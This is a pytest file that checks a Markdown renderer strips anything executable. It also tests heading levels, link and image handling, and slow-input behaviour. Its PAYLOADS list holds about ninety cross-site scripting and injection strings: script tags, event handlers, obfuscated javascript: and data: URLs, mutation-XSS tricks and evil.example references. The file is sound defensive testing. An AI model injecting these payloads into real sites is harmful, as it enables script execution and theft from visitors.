"""What Markdown becomes: text that can be read, and nothing that acts, whatever somebody types."""

import re
import time
from urllib.parse import urljoin, urlsplit

import html5lib
import pytest

from domain import markdown

NAME = "0123456789abcdef0123456789abcdef"
OURS = f"/guides/pictures/{NAME}"
TAGS = {"a", "blockquote", "br", "code", "em", "h2", "h3", "h4", "hr", "img", "li", "ol", "p", "pre", "strong", "ul"}
ATTRIBUTES = {"href", "title", "rel", "src", "alt", "loading", "start"}
# What people who break into sites type into them.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<math><mtext></p><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<x onclick=alert(1) tabindex=1 autofocus>x",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\nscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: data:text/html,x\n\n[x][]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://example.com "onmouseover=alert(1) \'")',
    '[x](https://example.com/"onmouseover="alert(1))',
    '[x](https://example.com "\\"><script>alert(1)</script>")',
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "![x](javascript:alert(1))",
    "![x](x \"onerror=alert(1)\")",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    f'![x" onerror="alert(1)]({OURS})',
    f"![<script>alert(1)</script>]({OURS})",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,AAAA)",
    f"![x]({OURS}/../../../logout)",
    f"![x]({OURS}?x)",
    "![x](/logout)",
    f"![x](/\\evil.example{OURS})",
    f"![x](https://evil.example{OURS})",
    f"[![x](https://evil.example/x.png)](javascript:alert(1)) ![y]({OURS})",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"onmouseover=alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=`x`onerror=alert(1)>",
    "<a href='\x00javascript:alert(1)'>x",
    "\u202e<script>alert(1)</script>",
    "{{ config }} {% raw %} ${7*7}",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<select><template shadowrootmode=open><script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "> <svg onload=alert(1)>",
    "1. <iframe src=//evil.example>",
    "* [x](javascript:alert`1`)",
    "[a](https://example.com?x=<script>alert(1)</script>)",
    "<https://example.com/<script>alert(1)</script>>",
    "<a@b.example onmouseover=alert(1)>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_acts_comes_out(payload):
    for text in (payload, f"words {payload} words", f"- {payload}\n- x", f"> {payload}", f"**{payload}**"):
        tree = html5lib.parseFragment(markdown.html(text), namespaceHTMLElements=False)
        for node in tree.iter():
            if node is tree:
                continue
            assert node.tag in TAGS, text
            assert set(node.attrib) <= ATTRIBUTES, text
            assert node.get("src", OURS) == OURS, text
            # As a browser reads an address: without what it does not see.
            address = re.sub("[\x00-\x20]", "", node.get("href", "/"))
            assert urlsplit(urljoin("https://site.example/", address)).scheme in ("https", "http", "mailto"), text


def test_each_of_the_locks_is_enough_alone():
    """Were HTML let through by the parser, the washing would still stop it."""
    open_parser = markdown.MarkdownIt("commonmark", {"html": True})
    kept, markdown._parser = markdown._parser, open_parser
    try:
        markdown.html.cache_clear()
        for payload in PAYLOADS:
            tree = html5lib.parseFragment(markdown.html(payload), namespaceHTMLElements=False)
            for node in tree.iter():
                assert node is tree or (node.tag in TAGS and set(node.attrib) <= ATTRIBUTES), payload
    finally:
        markdown._parser = kept
        markdown.html.cache_clear()


def test_headings_go_one_level_after_the_other_below_the_title():
    text = "# One\n\n#### Two\n\n###### Three\n\n## Four\n\nFive\n===="
    assert re.findall(r"<h(\d)>(\w+)</h\1>", markdown.html(text)) == [
        ("2", "One"),
        ("3", "Two"),
        ("4", "Three"),
        ("2", "Four"),
        ("2", "Five"),
    ]


def test_a_link_leads_out_with_nothing_in_hand():
    assert markdown.html("[BIS](https://www.bis.gov.in)") == (
        '<p><a href="https://www.bis.gov.in" rel="nofollow ugc noopener">BIS</a></p>\n'
    )


def test_only_our_pictures_are_shown_and_of_others_the_words():
    text = f"{markdown.picture(NAME, 'A [small] tap')}\n\n![A pipe](https://example.com/pipe.png)"
    html = markdown.html(text)
    assert f'<img src="{OURS}" alt="A [small] tap" loading="lazy">' in html
    assert "<p>A pipe</p>" in html
    assert markdown.pictures(text) == {NAME}


def test_the_words_are_without_marks_and_addresses():
    text = f"## A *tap*\n\n- [drips](https://example.com/not)\n- `twice`\n\n![A pipe]({OURS})\n\n    in a block"
    assert markdown.words(text).split() == ["A", "tap", "drips", "twice", "A", "pipe", "in", "a", "block"]


@pytest.mark.parametrize("piece", ["[", "![", "*a **b ", "_*", "[a][b", "<", "[[[[((((", "> - ", "`a"])
def test_a_text_that_is_made_to_take_long_does_not(piece):
    began = time.perf_counter()
    markdown.html((piece * 20_000)[:20_000])
    assert time.perf_counter() - began < 10
